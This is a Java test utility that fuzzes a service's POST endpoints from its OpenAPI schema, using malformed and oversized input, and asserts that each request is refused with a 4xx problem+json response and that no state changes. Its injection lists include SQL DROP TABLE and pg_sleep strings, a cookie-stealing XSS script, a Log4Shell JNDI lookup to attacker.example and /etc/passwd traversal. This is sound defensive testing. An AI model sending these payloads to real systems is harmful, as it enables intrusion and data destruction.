package org.entente.testing;

import com.fasterxml.jackson.core.type.TypeReference;
import com.fasterxml.jackson.databind.ObjectMapper;
import org.springframework.boot.test.web.client.TestRestTemplate;
import org.springframework.http.HttpEntity;
import org.springframework.http.HttpHeaders;
import org.springframework.http.HttpMethod;
import org.springframework.http.MediaType;
import org.springframework.http.ResponseEntity;

import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Supplier;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * Fuzzes every write endpoint a service describes in its OpenAPI document with malformed, oversized and hostile input:
 * bodies that are not JSON, not an object, nested a thousand deep or megabytes long; unknown fields; and, field by
 * field from the request schema, the wrong JSON type, a string past its maximum, an unknown enum value, a malformed
 * date or number, injection strings where the field has a pattern or a format, and hostile path variables. The other
 * fields of each body are plausible, so the hostile value is what is refused. Every answer must be a 4xx problem+json
 * and the probed state unchanged; a 5xx, a 2xx or a change fails the test.
 *
 * <p>It also fails on a request string field with no bound at all (no maxLength, pattern, enum or format): unbounded
 * input is a finding in itself.
 */
public final class WriteFuzzer {

    private static final ObjectMapper JSON = new ObjectMapper();
    private static final List<String> INJECTIONS = List.of(
            "' OR '1'='1'; DROP TABLE domain_event_entry; --",
            "<script>alert(document.cookie)</script>",
            "${jndi:ldap://attacker.example/a}",
            "../../../../etc/passwd",
            "\u0000\u0007\u001b[31m",
            "{{7*7}}#{7*7}",
            "'; SELECT pg_sleep(5); --");
    private static final List<String> HOSTILE_PATH_VALUES = List.of(
            "..%2F..%2Fetc%2Fpasswd", "%00", "x".repeat(5000), "' OR 1=1 --", "%3Cscript%3E");

    private final TestRestTemplate http;
    private final String token;
    private final Supplier<Object> state;
    private final List<String> unbounded = new ArrayList<>();
    private int endpoints;
    private int cases;

    /**
     * @param token a token allowed to call every endpoint (so the input, not the role, is what gets refused)
     * @param state what must read the same after every case, e.g. the number of stored events
     */
    public WriteFuzzer(TestRestTemplate http, String token, Supplier<Object> state) {
        this.http = http;
        this.token = token;
        this.state = state;
    }

    /** Fuzzes every POST of the service; {@code pathValues} gives an existing id for each path variable name. */
    @SuppressWarnings("unchecked")
    public WriteFuzzer fuzzAll(Map<String, String> pathValues) {
        Map<String, Object> document = get("/v3/api-docs");
        Map<String, Object> schemas = (Map<String, Object>) ((Map<String, Object>) document
                .getOrDefault("components", Map.of())).getOrDefault("schemas", Map.of());
        Map<String, Object> paths = (Map<String, Object>) document.get("paths");
        for (Map.Entry<String, Object> path : paths.entrySet()) {
            Map<String, Object> operation = (Map<String, Object>) ((Map<String, Object>) path.getValue()).get("post");
            if (operation == null) {
                continue;
            }
            endpoints++;
            Map<String, Object> schema = requestSchema(operation, schemas);
            Map<String, Object> requestBody = (Map<String, Object>) operation.get("requestBody");
            boolean bodyRequired = requestBody != null && Boolean.TRUE.equals(requestBody.get("required"));
            fuzz(path.getKey(), pathValues, schema, schemas, bodyRequired);
        }
        assertThat(unbounded).as("request string fields without any bound (maxLength, pattern, enum or format)")
                .isEmpty();
        return this;
    }

    /**
     * A fuzzer calling as {@code actor} of GBR with every role, council and command of {@code coalitionIds} and the
     * coalition-wide audit clearance — so that nothing but the input is refused — probing that nothing is recorded by
     * that actor.
     */
    public static WriteFuzzer asEveryRole(TestRestTemplate http, org.springframework.jdbc.core.JdbcTemplate jdbc,
                                          String actor, String... coalitionIds) {
        String token = TestTokens.token(new org.entente.infra.issuer.TokenRequest(actor, "GBR", List.of("planner",
                "coalition-authority", "founder", "commander", "red-card-holder", "auditor", "observer"),
                List.of(coalitionIds), List.of("coalition-wide-audit"), null));
        return new WriteFuzzer(http, token, eventsRecordedBy(jdbc, actor));
    }

    /**
     * A state probe for a service whose inbox may record reactions meanwhile: the events stored since now whose
     * decision metadata names {@code actor} (the fuzzing caller). Must stay empty.
     */
    public static Supplier<Object> eventsRecordedBy(org.springframework.jdbc.core.JdbcTemplate jdbc, String actor) {
        Long baseline = jdbc.queryForObject("SELECT COALESCE(MAX(global_index), 0) FROM domain_event_entry", Long.class);
        return () -> jdbc.queryForList("SELECT meta_data FROM domain_event_entry WHERE global_index > ?", byte[].class,
                        baseline).stream()
                .filter(metaData -> new String(metaData, java.nio.charset.StandardCharsets.UTF_8).contains(actor))
                .count();
    }

    public int endpoints() {
        return endpoints;
    }

    public int cases() {
        return cases;
    }

    public String report(String service) {
        return "fuzz of " + service + ": " + endpoints + " write endpoints, " + cases
                + " hostile requests, every one 4xx problem+json with nothing recorded";
    }

    private void fuzz(String template, Map<String, String> pathValues, Map<String, Object> schema,
                      Map<String, Object> schemas, boolean bodyRequired) {
        String path = fill(template, pathValues, null);
        Object before = state.get();
        Map<String, Object> plausible = schema == null ? Map.of() : plausible(schema, schemas, 0);

        // The body as a whole.
        if (bodyRequired) {
            send(template, path, "");
        }
        send(template, path, "{\"unterminated");
        send(template, path, "[]");
        send(template, path, "42");
        send(template, path, "\"a string\"");
        send(template, path, "[".repeat(5000) + "]".repeat(5000));
        send(template, path, "{\"a\":".repeat(3000) + "1" + "}".repeat(3000));
        send(template, path, json(with(plausible, "unknownFieldInjected", "x")));
        send(template, path, "{\"padding\":\"" + "A".repeat(2_000_000) + "\"}");

        // Field by field, the others plausible.
        if (schema != null) {
            fuzzFields(template, path, plausible, schema, schemas, "", plausible);
        }

        // Hostile path variables, with a plausible body.
        if (template.contains("{")) {
            for (String hostile : HOSTILE_PATH_VALUES) {
                send(template, fill(template, pathValues, hostile), json(plausible));
            }
        }
        assertThat(state.get()).as("POST %s: state after fuzzing", template).isEqualTo(before);
    }

    @SuppressWarnings("unchecked")
    private void fuzzFields(String template, String path, Map<String, Object> root, Map<String, Object> schema,
                            Map<String, Object> schemas, String prefix, Map<String, Object> here) {
        Map<String, Object> properties = (Map<String, Object>) schema.getOrDefault("properties", Map.of());
        for (Map.Entry<String, Object> property : properties.entrySet()) {
            String name = property.getKey();
            Map<String, Object> field = resolve((Map<String, Object>) property.getValue(), schemas);
            String where = prefix + name;
            for (Object hostile : hostileValues(where, field)) {
                send(template, path, json(replace(root, prefix, name, hostile)));
            }
            if ("object".equals(field.get("type")) && field.containsKey("properties") && prefix.isEmpty()) {
                Object nested = here.get(name);
                if (nested instanceof Map<?, ?> nestedMap) {
                    fuzzFields(template, path, root, field, schemas, name + ".", (Map<String, Object>) nestedMap);
                }
            }
        }
    }

    private List<Object> hostileValues(String where, Map<String, Object> field) {
        List<Object> values = new ArrayList<>();
        String type = String.valueOf(field.get("type"));
        switch (type) {
            case "string" -> {
                values.add(12345);
                values.add(List.of("an", "array"));
                values.add(Map.of("an", "object"));
                Number max = (Number) field.get("maxLength");
                boolean bounded = max != null || field.containsKey("pattern") || field.containsKey("enum")
                        || field.containsKey("format");
                if (!bounded) {
                    unbounded.add(where);
                }
                int over = max == null ? 100_000 : max.intValue() + 1;
                values.add("x".repeat(Math.min(over, 1_000_000)));
                if (field.containsKey("enum")) {
                    values.add("NOT_A_KNOWN_VALUE");
                    values.add("'; DROP TABLE domain_event_entry; --");
                }
                if (field.containsKey("pattern") || field.containsKey("format")) {
                    values.addAll(INJECTIONS);
                    values.add("2011-13-45T25:61:61Z");
                    if (field.containsKey("pattern")) {
                        values.add("");
                    }
                } else if (max != null) {
                    // Free text: hostile strings are words like any other, so they go past the bound to be refused.
                    INJECTIONS.forEach(injection -> values.add(injection + " ".repeat(Math.max(0, over - injection.length()))
                            + injection));
                }
            }
            case "integer", "number" -> {
                values.add("not a number");
                values.add(true);
                values.add(new java.math.BigDecimal("1e400"));
                values.add(List.of(1));
                if (field.containsKey("minimum")) {
                    values.add(((Number) field.get("minimum")).doubleValue() - 1);
                }
                if (field.containsKey("maximum")) {
                    values.add(((Number) field.get("maximum")).doubleValue() + 1);
                }
            }
            case "boolean" -> {
                values.add("yes");
                values.add(1);
            }
            case "array" -> {
                values.add("not an array");
                values.add(Map.of("an", "object"));
                values.add(java.util.Collections.nCopies(5000, "'; DROP TABLE x; --"));
                List<Object> nulls = new ArrayList<>();
                nulls.add(null);
                values.add(nulls);
            }
            case "object" -> {
                values.add("not an object");
                values.add(List.of());
                values.add(7);
            }
            default -> values.add(Map.of("unexpected", "shape"));
        }
        return values;
    }

    private void send(String template, String path, String body) {
        cases++;
        HttpHeaders headers = new HttpHeaders();
        headers.setContentType(MediaType.APPLICATION_JSON);
        headers.setBearerAuth(token);
        ResponseEntity<String> reply = http.exchange(path, HttpMethod.POST, new HttpEntity<>(body, headers), String.class);
        String shown = body.length() > 200 ? body.substring(0, 200) + "… (" + body.length() + " chars)" : body;
        assertThat(reply.getStatusCode().is4xxClientError())
                .as("POST %s (%s) with %s: got %s %s", path, template, shown, reply.getStatusCode(), reply.getBody())
                .isTrue();
        assertThat(reply.getHeaders().getContentType())
                .as("POST %s with %s: %s", path, shown, reply.getBody())
                .isEqualTo(MediaType.APPLICATION_PROBLEM_JSON);
    }

    // ---- schema helpers ----------------------------------------------------------------------------------------

    @SuppressWarnings("unchecked")
    private static Map<String, Object> requestSchema(Map<String, Object> operation, Map<String, Object> schemas) {
        Map<String, Object> body = (Map<String, Object>) operation.get("requestBody");
        if (body == null) {
            return null;
        }
        Map<String, Object> content = (Map<String, Object>) body.get("content");
        Map<String, Object> media = (Map<String, Object>) content.values().iterator().next();
        return resolve((Map<String, Object>) media.get("schema"), schemas);
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> resolve(Map<String, Object> schema, Map<String, Object> schemas) {
        Object ref = schema.get("$ref");
        if (ref instanceof String reference) {
            return resolve((Map<String, Object>) schemas.get(reference.substring(reference.lastIndexOf('/') + 1)),
                    schemas);
        }
        return schema;
    }

    /** A body a client might send: every property with a value of its type, format and bounds. */
    @SuppressWarnings("unchecked")
    private static Map<String, Object> plausible(Map<String, Object> schema, Map<String, Object> schemas, int depth) {
        Map<String, Object> body = new LinkedHashMap<>();
        Map<String, Object> properties = (Map<String, Object>) schema.getOrDefault("properties", Map.of());
        for (Map.Entry<String, Object> property : properties.entrySet()) {
            Map<String, Object> field = resolve((Map<String, Object>) property.getValue(), schemas);
            Object value = plausibleValue(field, schemas, depth);
            if (value != null) {
                body.put(property.getKey(), value);
            }
        }
        return body;
    }

    @SuppressWarnings("unchecked")
    private static Object plausibleValue(Map<String, Object> field, Map<String, Object> schemas, int depth) {
        if (field.containsKey("enum")) {
            return ((List<Object>) field.get("enum")).get(0);
        }
        String type = String.valueOf(field.get("type"));
        return switch (type) {
            case "string" -> switch (String.valueOf(field.get("format"))) {
                case "date" -> "2030-01-01";
                case "date-time" -> "2030-01-01T00:00:00Z";
                default -> field.containsKey("pattern") && String.valueOf(field.get("pattern")).contains("A-Z]{3}")
                        ? "GBR" : "fuzz";
            };
            case "integer", "number" -> field.containsKey("minimum") ? field.get("minimum") : 1;
            case "boolean" -> true;
            case "array" -> List.of();
            case "object" -> depth < 3 ? plausible(field, schemas, depth + 1) : Map.of();
            default -> null;
        };
    }

    // ---- building requests ---------------------------------------------------------------------------------------

    private static String fill(String template, Map<String, String> values, String hostile) {
        String path = template;
        while (path.contains("{")) {
            int start = path.indexOf('{');
            int end = path.indexOf('}', start);
            String name = path.substring(start + 1, end);
            String value = hostile != null ? hostile : values.getOrDefault(name, "no-such-" + name);
            path = path.substring(0, start) + value + path.substring(end + 1);
            hostile = null; // the first variable only: the rest stay real, so the hostile one is what is judged
        }
        return path;
    }

    private static Map<String, Object> with(Map<String, Object> body, String key, Object value) {
        Map<String, Object> copy = new LinkedHashMap<>(body);
        copy.put(key, value);
        return copy;
    }

    @SuppressWarnings("unchecked")
    private static Map<String, Object> replace(Map<String, Object> root, String prefix, String name, Object value) {
        Map<String, Object> copy = deepCopy(root);
        if (prefix.isEmpty()) {
            copy.put(name, value);
        } else {
            String parent = prefix.substring(0, prefix.length() - 1);
            Map<String, Object> nested = new LinkedHashMap<>((Map<String, Object>) copy.get(parent));
            nested.put(name, value);
            copy.put(parent, nested);
        }
        return copy;
    }

    private static Map<String, Object> deepCopy(Map<String, Object> map) {
        try {
            return JSON.readValue(JSON.writeValueAsString(map), new TypeReference<LinkedHashMap<String, Object>>() {
            });
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private static String json(Object value) {
        try {
            return JSON.writeValueAsString(value);
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }

    private Map<String, Object> get(String path) {
        try {
            return JSON.readValue(http.getForObject(path, String.class),
                    new TypeReference<LinkedHashMap<String, Object>>() {
                    });
        } catch (java.io.IOException e) {
            throw new IllegalStateException(e);
        }
    }
}
